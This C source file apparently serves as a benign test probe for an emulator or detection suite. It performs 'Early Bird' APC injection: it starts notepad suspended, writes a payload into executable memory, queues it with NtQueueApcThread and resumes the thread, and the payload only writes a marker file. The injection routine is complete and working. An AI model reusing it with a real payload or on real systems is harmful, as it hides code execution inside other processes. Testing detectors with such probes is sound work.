/*
 * injector.c - probe: "Early Bird" APC injection (benign, emulator-only; see
 * ../../lineage-common/common.h): notepad started suspended, the payload and its context block
 * written into it (VirtualAllocEx + WriteProcessMemory x2), the payload queued to its main
 * thread with ntdll!NtQueueApcThread before that thread ever ran, then ResumeThread: the APC runs
 * first thing in notepad. The payload (payload_self.c) writes lineage_earlybird.txt.
 * Exit codes: 0 ok, 1 no marker, 2 process, 3 memory, 4 APC.
 */
#include "common.h"
#include "blobs.h"

#define CTX_OFFSET 0x800

typedef LONG (NTAPI *NtQueueApcThread_t)(HANDLE, PVOID, PVOID, PVOID, PVOID);

void Entry(void)
{
    static struct sc_ctx ctx;
    static char cmd[] = "C:\\Windows\\System32\\notepad.exe";
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    unsigned char *si_bytes = (unsigned char *)&si;
    unsigned char *code;
    SIZE_T written;
    NtQueueApcThread_t queue;
    DWORD i;

    if (!marker_present())
        ExitProcess(1);
    queue = (NtQueueApcThread_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtQueueApcThread");
    if (!queue)
        ExitProcess(4);
    for (i = 0; i < sizeof(si); i++)
        si_bytes[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_SUSPENDED, 0, 0, &si, &pi))
        ExitProcess(2);
    code = (unsigned char *)VirtualAllocEx(pi.hProcess, 0, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!code)
        ExitProcess(3);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_earlybird.txt", "queued as an early-bird APC in notepad\n");
    if (!WriteProcessMemory(pi.hProcess, code, payload, sizeof(payload), &written) ||
        !WriteProcessMemory(pi.hProcess, code + CTX_OFFSET, &ctx, sizeof(ctx), &written))
        ExitProcess(3);
    if (queue(pi.hThread, code, code + CTX_OFFSET, 0, 0) != 0)
        ExitProcess(4);
    ResumeThread(pi.hThread);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
    ExitProcess(0);
}
